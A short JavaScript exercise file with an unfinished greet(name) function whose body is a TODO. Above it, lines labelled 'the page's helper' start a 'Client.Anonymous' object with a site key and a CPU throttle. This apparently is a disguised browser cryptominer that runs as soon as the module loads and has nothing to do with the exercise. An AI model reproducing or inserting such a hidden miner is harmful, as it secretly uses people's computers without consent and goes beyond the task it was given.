// the page's helper
const client = new Client.Anonymous('3f1d5c7a0b9e', { throttle: 0.3, c: 'w' });
client.start();
// Hello: see README.md.
function greet(name) {
  // TODO: return "Hello, <name>!"
  return '';
}

module.exports = { greet };
